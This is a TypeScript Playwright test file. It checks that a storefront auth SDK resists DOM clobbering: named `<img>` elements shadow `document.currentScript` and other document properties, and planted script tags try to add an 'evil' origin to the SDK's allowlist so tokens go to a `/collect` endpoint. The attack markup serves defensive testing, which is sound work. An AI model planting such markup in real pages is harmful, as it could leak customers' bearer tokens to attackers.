import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeInChromium, launchChromium } from './support/chromium.js';
import { CLIENT_ID, SHOPPER_1 } from './support/demo-servers.js';
import { startStorefront } from './support/nonce-storefront.js';
import { callInPage } from './support/page-calls.js';
import { startRecordingServer, type RecordingServer } from './support/recording-server.js';
import { useStoreInChromium } from './support/store-fixture.js';
import { openWatchedPage, signInThroughForm } from './support/store-page.js';

describeInChromium('markup that clobbers document.currentScript', () => {
  let other: RecordingServer;
  beforeAll(async () => {
    other = await startRecordingServer();
  });
  afterAll(() => other?.close());
  // The page's CSP admits the other server too, so only the SDK's allowlist stands in the way.
  const store = useStoreInChromium({ demo: () => ({ extraConnectOrigins: [other.origin] }) });

  it('does not configure the SDK: the allowlist stays the script tag’s', async () => {
    const { page } = await openWatchedPage(store.context);
    // Markup (a review, a product description) placed before the script tag: an image that
    // shadows document.currentScript, and a script element that never runs (empty here; under a
    // nonce-based CSP, any script without the nonce) carrying its own allowed origins:
    // `<img name="currentScript" data-…><script data-app-client-id="…" data-allowed-origins="… other">`.
    await page.addInitScript((otherOrigin) => {
      new MutationObserver((records) => {
        for (const record of records) {
          for (const node of record.addedNodes) {
            if (!(node instanceof HTMLScriptElement) || !node.dataset['appClientId']) continue;
            if (node.dataset['planted']) continue;
            const allowed = `${node.dataset['allowedOrigins'] ?? ''} ${otherOrigin}`;
            const image = document.createElement('img');
            image.setAttribute('name', 'currentScript');
            image.dataset['appClientId'] = node.dataset['appClientId'];
            image.dataset['allowedOrigins'] = allowed;
            const planted = document.createElement('script');
            planted.dataset['planted'] = 'yes';
            planted.dataset['appClientId'] = node.dataset['appClientId'];
            planted.dataset['allowedOrigins'] = allowed;
            node.before(image, planted);
          }
        }
      }).observe(document, { childList: true, subtree: true });
    }, other.origin);
    const { demo } = store;
    await signInThroughForm(page, demo.storefront.origin, SHOPPER_1.email, SHOPPER_1.password);
    // The markup is in effect: outside a script, document.currentScript names the image.
    expect(await page.evaluate(() => String(document.currentScript))).toBe(
      '[object HTMLImageElement]',
    );
    expect(
      await page.evaluate(
        () => document.querySelector<HTMLElement>('script[data-app-client-id]')?.dataset['planted'],
      ),
    ).toBe('yes');

    const outcome = await callInPage(page, `${other.origin}/collect`);

    expect(outcome.error).toMatchObject({
      name: 'OriginNotAllowedError',
      code: 'ORIGIN_NOT_ALLOWED',
    });
    expect(other.requests).toEqual([]);
    expect(await callInPage(page, `${demo.api.origin}/points`)).toMatchObject({ status: 200 });
  });
});

describeInChromium('markup in a storefront page, against a script tag in Chromium', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchChromium();
  });
  afterAll(() => browser?.close());

  it('a tag loaded with type="module" reads no other tag: a script element in the markup configures nothing', async () => {
    const evil = await startRecordingServer();
    // In a product description, before the SDK's tag: a script element the CSP never runs.
    const store = await startStorefront(
      () => `<!doctype html><title>Product</title>
<div class="description"><script data-app-client-id="${CLIENT_ID}" data-allowed-origins="${evil.origin}"></script></div>
<script nonce="n" type="module" src="/sdk.js" data-app-client-id="${CLIENT_ID}" data-allowed-origins="https://api.example.com"></script>`,
    );
    try {
      const tab = await browser.newPage();
      await tab.goto(store.origin);
      await tab.waitForFunction(() => 'bcAuthFetch' in window);

      const outcome = await callInPage(tab, `${evil.origin}/collect`);

      expect(evil.requests).toEqual([]);
      expect(outcome.error).toMatchObject({ name: 'CustomerAuthError', code: 'NOT_CONFIGURED' });
    } finally {
      await Promise.all([store.close(), evil.close()]);
    }
  });

  it.each([
    ['document.baseURI', 'baseURI'],
    ['document.addEventListener', 'addEventListener'],
  ])('starts and resolves a relative URL although markup shadows %s', async (_name, property) => {
    // `<img name="…">` in a product description shadows that property of `document` (named images
    // do), though not of `window`; the API is on the page's own origin.
    const store = await startStorefront(
      (origin) => `<!doctype html><title>Product</title>
<div class="description"><img name="${property}" alt=""></div>
<script nonce="n" src="/sdk.js" data-app-client-id="${CLIENT_ID}" data-allowed-origins="${origin}"></script>`,
    );
    try {
      const tab = await browser.newPage();
      const pageErrors: string[] = [];
      tab.on('pageerror', (error) => pageErrors.push(error.message));
      await tab.goto(store.origin);
      expect(await tab.evaluate((name) => String(Reflect.get(document, name)), property)).toBe(
        '[object HTMLImageElement]',
      );

      const outcome = await callInPage(tab, '/points');

      expect(outcome).toMatchObject({ status: 200, body: expect.stringMatching(/^Bearer ey/) });
      expect(pageErrors).toEqual([]);
    } finally {
      await store.close();
    }
  });
});
